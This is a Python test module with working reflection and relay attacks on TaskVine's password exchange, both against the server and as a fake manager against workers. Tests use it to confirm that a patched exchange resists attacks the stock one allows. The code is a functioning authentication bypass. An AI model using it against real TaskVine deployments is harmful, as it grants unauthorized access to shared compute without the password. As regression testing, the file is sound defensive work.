"""An outsider's attacks on TaskVine's password exchange, for the tests (no password known).

Each attack speaks whatever exchange its peer announces (the old ``auth password sha1`` or
the project's ``auth password hmac-sha256 v2``) and returns whether it got in, so a test
that asserts ``not attack(...)`` fails on a TaskVine whose exchange can be reflected or
relayed (the stock one) and passes on the project's (patch 0012).

- ``reflect_to_server``: on one connection, send the server's challenge back as our own,
  and its answer back as ours (how the stock exchange let anyone in).
- ``relay_to_server``: two connections to the same server; ask it on the second to answer
  the first's challenge, and hand that answer to the first.
- ``reflect_to_client``: a fake server (a fake manager) sends a connecting worker's
  challenge back to it, and its answer back to it.
- ``relay_client_to``: a fake server hands a connecting worker's challenge to another
  server sharing the password (a worker's transfer server) and its answer back.
"""

from __future__ import annotations

import socket
import time

HELLO = b"taskvine 12 intruder linux x86_64 7.15.9"


class Refused(Exception):
    """The peer closed the connection or said nothing more before our deadline."""


class Lines:
    """Lines over a socket with a deadline per read."""

    def __init__(self, sock: socket.socket, timeout_s: float = 10.0) -> None:
        self.sock = sock
        self.sock.settimeout(timeout_s)
        self.buf = b""

    def send(self, line: bytes) -> None:
        self.sock.sendall(line + b"\n")

    def readline(self) -> bytes:
        while b"\n" not in self.buf:
            try:
                chunk = self.sock.recv(4096)
            except (TimeoutError, OSError) as exc:
                raise Refused(str(exc)) from exc
            if not chunk:
                raise Refused("closed")
            self.buf += chunk
        line, _, self.buf = self.buf.partition(b"\n")
        return line.rstrip(b"\r")

    def close(self) -> None:
        self.sock.close()


def connect(port: int, host: str = "127.0.0.1", timeout_s: float = 10.0) -> Lines:
    return Lines(socket.create_connection((host, port), timeout=timeout_s), timeout_s)


def finish_as_client(lines: Lines, answer: bytes) -> bool:
    """Send ``answer`` as our proof; True if the server then accepts us (says ``ok``).

    The stock exchange sends its answer to our challenge first (read and dropped); the
    project's waits for our proof first and answers it with its own or ``failure``.
    """
    lines.send(answer)
    while True:
        line = lines.readline()
        if line == b"ok":
            lines.send(b"ok")
            return True
        if line == b"failure":
            return False
        # a proof or answer of the server's own: the stock exchange's verdict comes next,
        # the project's wants our verdict
        lines.send(b"ok")


def reflect_to_server(port: int, *, hold: list[Lines] | None = None) -> bool:
    """The reflection attack on one connection; True if the server let us in.

    Once in, the connection says a worker's hello and is kept open in ``hold``.
    """
    lines = connect(port)
    try:
        ident = lines.readline()
        lines.send(ident)
        theirs = lines.readline()
        lines.send(theirs)  # their challenge, as ours
        answer = lines.readline()  # stock: SHA1(password + their challenge), what they expect
        got_in = finish_as_client(lines, answer)
    except Refused:
        lines.close()
        return False
    if got_in and hold is not None:
        lines.send(HELLO)
        hold.append(lines)
    return got_in


def relay_to_server(port: int, *, hold: list[Lines] | None = None) -> bool:
    """The relay attack across two connections; True if the first got in."""
    first, second = connect(port), connect(port)
    try:
        first.send(first.readline())
        wanted = first.readline()  # the challenge to answer on the first connection
        second.send(second.readline())
        second.readline()
        second.send(wanted)  # as our challenge on the second: the server answers it there
        answer = second.readline()
        first.send(b"0123456789abcdef" * 4)  # any challenge of ours on the first
        first.readline()  # stock: the server's answer to it
        got_in = finish_as_client(first, answer)
    except Refused:
        first.close()
        return False
    finally:
        second.close()
    if got_in and hold is not None:
        first.send(HELLO)
        hold.append(first)
    return got_in


def fake_server(timeout_s: float = 20.0) -> socket.socket:
    """A listening socket on loopback, for a fake manager."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(timeout_s)
    return server


def reflect_to_client(server: socket.socket) -> bool:
    """As a fake manager: reflect a connecting worker's challenge; True if it then says hello."""
    conn, _ = server.accept()
    lines = Lines(conn)
    try:
        lines.send(lines.readline())  # its ident, back
        theirs = lines.readline()
        lines.send(theirs)  # its challenge, as ours
        answer = lines.readline()  # its answer (stock) or its proof (project): sent back
        lines.send(answer)
        return said_hello(lines)
    except Refused:
        return False
    finally:
        lines.close()


def relay_client_to(server: socket.socket, other_port: int) -> bool:
    """As a fake manager: have the server on ``other_port`` answer a connecting worker's
    challenge (a worker's transfer server shares the password); True if it says hello."""
    conn, _ = server.accept()
    lines = Lines(conn)
    other = connect(other_port)
    try:
        ident = lines.readline()
        lines.send(other.readline())  # the other server's ident
        other.send(ident)
        theirs = lines.readline()  # the worker's challenge
        other_challenge = other.readline()
        lines.send(other_challenge)  # the other server's challenge, as ours
        other.send(theirs)  # the worker's challenge, to the other server
        # stock: the other server answers the worker's challenge at once; the project's
        # exchange wants the client's proof first: the worker's, relayed
        relayed = lines.readline()
        other.send(relayed)
        answer = other.readline()
        lines.send(answer)
        return said_hello(lines)
    except Refused:
        return False
    finally:
        lines.close()
        other.close()


def said_hello(lines: Lines) -> bool:
    """After a forged proof: True if the worker goes on to a worker's hello."""
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        line = lines.readline()
        if line.startswith(b"taskvine"):
            return True
        if line == b"failure":
            return False
        if line == b"ok":
            lines.send(b"ok")
    return False
